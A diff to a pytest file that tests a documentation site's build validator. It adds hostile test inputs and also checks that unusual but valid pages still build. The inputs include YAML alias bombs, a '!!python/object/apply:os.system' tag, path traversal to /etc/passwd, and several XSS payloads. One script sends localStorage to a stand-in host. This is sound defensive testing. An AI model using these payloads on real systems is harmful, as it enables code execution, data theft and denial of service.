@@ -80,6 +80,62 @@ FRONT_MATTER = {
                   ":5: icon: '../../../x' is not an icon of the theme"),
 }
 
+FRONT_MATTER.update({
+    "anchor-alias": ("---\ntitle: &t T\ndescription: *t\nstatus: draft\n---\n# T\n\n" + GOOD + "\n",
+                     ":2: YAML anchors and aliases (&name, *name) are not allowed"),
+    "alias-loop": ("---\ntitle: T\ndescription: D.\nstatus: draft\nkeywords: &k [*k]\n---\n# T\n\n" + GOOD + "\n",
+                   ":5: YAML anchors and aliases"),
+    "alias-bomb": ("---\n" + "".join(f"{n}: &{n} [{', '.join([f'*{p}'] * 9) if p else 'lol'}]\n"
+                                      for p, n in zip([""] + list("abcdefgh"), "abcdefghi")) + "---\n# T\n\n" + GOOD + "\n",
+                   ":2: YAML anchors and aliases"),
+    "duplicate-key": ("---\ntitle: T\ndescription: D.\nstatus: draft\ntitle: Other\n---\n# Other\n\n" + GOOD + "\n",
+                      ":5: 'title' appears twice (lines 2 and 5)"),
+    "python-tag": ("---\ntitle: !!python/object/apply:os.system [id]\ndescription: D.\nstatus: draft\n---\n# T\n\n" + GOOD + "\n",
+                   ":2: YAML tags such as '!!python/object/apply:os.system' are not allowed"),
+    "deep-nesting": ("---\ntitle: T\ndescription: D.\nstatus: draft\nkeywords: " + "[" * 40000 + "]" * 40000 + "\n---\n# T\n\n"
+                     + GOOD + "\n", ":5: The YAML is nested more than 32 levels deep"),
+    "snippet-escape": (body('--8<-- "../../mkdocs.yml"'), ":10: The shared text '../../mkdocs.yml' points outside docs/_snippets/"),
+    "snippet-absolute": (body('--8<-- "/etc/passwd"'), ":10: The shared text '/etc/passwd' is an absolute path"),
+    "snippet-block": (body('--8<--\n../../../etc/hostname\n--8<--'), ":11: The shared text '../../../etc/hostname' points outside"),
+    "snippet-missing": (body('--8<-- "warning-sings.md"'), ":10: The shared text 'warning-sings.md' does not exist"),
+})
+
+WORKSHEETS = {
+    "title-html": ("title: <script>alert(1)</script>", ":2: 'title' holds HTML (<script>)"),
+    "purpose-html": ('purpose: "<img src=x onerror=alert(1)>"', ":4: 'purpose' holds HTML"),
+    "instructions-img": ('instructions: "Read. <img src=/etc/passwd>"', ":5: In 'instructions': The HTML element <img> was removed"),
+    "instructions-attachment": ('instructions: "<a rel=attachment href=file:///proc/self/environ>env</a>"',
+                                ":5: In 'instructions': The address 'file:///proc/self/environ' on <a> was removed"),
+    "instructions-script": ("instructions: |\n  Fill it in.\n  <script>fetch('https://x.example/'+localStorage)</script>",
+                            ":5: In 'instructions': The HTML element <script> was removed"),
+}
+
+
+def worksheet(name: str, replacement: str) -> str:
+    """A valid worksheet with one line replaced: line 2 title, 4 purpose, 5 instructions, 11 a label."""
+    text = (f"id: {name}\ntitle: A sheet\nsection: preparation\npurpose: What it is for.\ninstructions: Fill it in.\n"
+            "pages: 1\nfields:\n  - kind: lines\n    id: one\n    lines: 2\n    label: My answer\n"
+            "  - kind: checklist\n    id: two\n    label: Tick\n    items: [One, Two]\n")
+    key = replacement.split(":")[0]
+    lines = [replacement if line.startswith(key + ":") else line for line in text.splitlines()]
+    return "\n".join(lines) + "\n"
+
+
+WORKSHEET_FILES = {f"worksheets/ws-{name}.yml": worksheet(f"ws-{name}", line) for name, (line, _) in WORKSHEETS.items()}
+WORKSHEET_FILES["worksheets/ws-label-html.yml"] = worksheet("ws-label-html", "title: A sheet").replace(
+    "label: My answer", "label: <b onclick=alert(1)>My answer</b>")
+WORKSHEET_FILES["worksheets/ws-item-html.yml"] = worksheet("ws-item-html", "title: A sheet").replace(
+    "items: [One, Two]", "items: [One, <svg onload=alert(1)>]")
+WORKSHEET_FILES["worksheets/ws-bomb.yml"] = "".join(
+    f"{n}: &{n} [{', '.join([f'*{p}'] * 9) if p else 'lol'}]\n" for p, n in zip([""] + list("abcdefgh"), "abcdefghi"))
+WORKSHEET_FILES["worksheets/ws-duplicate.yml"] = worksheet("ws-duplicate", "title: A sheet").replace(
+    "    label: My answer\n", "    label: My answer\n    label: Another\n")
+WORKSHEET_EXPECTED = {f"worksheets/ws-{name}.yml": expected for name, (_, expected) in WORKSHEETS.items()}
+WORKSHEET_EXPECTED.update({"worksheets/ws-label-html.yml": ":11: 'label' holds HTML (<b onclick=alert(1)>)",
+                           "worksheets/ws-item-html.yml": ":15: 'items' holds HTML (<svg onload=alert(1)>)",
+                           "worksheets/ws-bomb.yml": ":1: YAML anchors and aliases",
+                           "worksheets/ws-duplicate.yml": ":12: 'label' appears twice (lines 11 and 12)"})
+
 SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 ASSETS = {
     "assets/images/script.svg": (SVG_SCRIPT, "docs/assets/images/script.svg: The SVG file holds <script>"),
@@ -113,6 +169,7 @@ def corpus_build(tmp_path_factory):
     pages.update({f"cases/{name}.md": body(payload) for name, (payload, _) in PAGE_HTML.items()})
     pages.update({f"cases/{name}.md": text for name, (text, _) in FRONT_MATTER.items()})
     pages.update({name: text for name, (text, _) in ASSETS.items()})
+    pages.update(WORKSHEET_FILES)
     config, site = make_site(root, pages, nav=["index.md", "get-help-now.md", {"Cases": [
         f"cases/{n}.md" for n in list(PAGE_HTML) + list(FRONT_MATTER)]}])
     os.symlink("/etc/hostname", root / "docs" / "cases" / "link-out.md")
@@ -123,7 +180,8 @@ def corpus_build(tmp_path_factory):
 CASES = ([(name, f"docs/cases/{name}.md{expected if expected.startswith(':') else ''}",
            expected if not expected.startswith(":") else "") for name, (_, expected) in PAGE_HTML.items()]
          + [(name, f"docs/cases/{name}.md{expected}", "") for name, (_, expected) in FRONT_MATTER.items()]
-         + [(name, expected, "") for name, (_, expected) in ASSETS.items()])
+         + [(name, expected, "") for name, (_, expected) in ASSETS.items()]
+         + [(name, f"docs/{name}{expected}", "") for name, expected in WORKSHEET_EXPECTED.items()])
 
 
 @pytest.mark.parametrize("name, expected, also", CASES, ids=[c[0] for c in CASES])
@@ -197,3 +255,47 @@ def test_each_hostile_setting_is_named_in_the_strict_build(settings_build, setti
     assert "Traceback" not in result.stderr + result.stdout
     assert SETTINGS[setting][1] in result.stderr, result.stderr[-3000:]
     assert (root / "docs" / "index.md").exists()  # the worksheet cache never deletes pages
+
+
+# ---------------------------------------------------------------- good inputs that must keep working
+
+def _front(title: str, extra: str = "") -> str:
+    return f"---\ntitle: {title}\ndescription: About it.\nstatus: draft\n{extra}---\n# {title}\n\n{GOOD}\n"
+
+
+GOOD_INPUTS = {
+    "crlf.md": _front("Saved on Windows").replace("\n", "\r\n").encode(),
+    "bom.md": "\ufeff".encode() + _front("Saved with a BOM").encode(),
+    "keywords-string.md": _front("Keywords as text", "keywords: can I drive, tired after\n"),
+    "emoji.md": _front("Feeling calm 🌿"),
+    "trailing-spaces.md": _front("Spaces after").replace("# Spaces after", "# Spaces after" + " " * 1500),
+    "impossible-date.md": _front("A draft with a wrong date", "reviewed: 2026-02-30\n"),
+    "line-range.md": _front("Part of the signs").replace(GOOD, GOOD + "\n\n" + '--8<-- "warning-signs.md:1:3"\n\n'
+                                                                        "[Get help now](get-help-now.md)"),
+    "ampersand.md": _front("Fear & panic"),
+}
+
+
+@pytest.fixture(scope="module")
+def good_build(tmp_path_factory):
+    root = tmp_path_factory.mktemp("good")
+    pages = {"index.md": page("Home", GOOD), **GOOD_INPUTS}
+    config, site = make_site(root, pages)
+    return run_mkdocs(config, site), site
+
+
+def test_unusual_but_good_pages_build_intact(good_build):
+    result, site = good_build
+    assert result.returncode == 0, result.stderr
+    for name, text in GOOD_INPUTS.items():
+        html = (site / name[:-3] / "index.html").read_text()
+        tree = LexborHTMLParser(html)
+        article = tree.css_first("article").text()
+        assert "status: draft" not in article and "---" not in article, name  # front matter is not shown as text
+        assert tree.css_first(".kap-draft") is not None, f"{name}: the draft notice is missing"
+        title = (text.decode("utf-8-sig") if isinstance(text, bytes) else text).split("title: ")[1].split("\n")[0].strip()
+        assert tree.css_first("h1").text().replace("¶", "").strip() == title, name
+    signs = LexborHTMLParser((site / "line-range" / "index.html").read_text()).css_first("article").text()
+    assert "Thoughts of suicide" in signs and "Using alcohol or drugs" not in signs
+    home_title = LexborHTMLParser((site / "ampersand" / "index.html").read_text()).css_first("title").text()
+    assert home_title.startswith("Fear & panic")
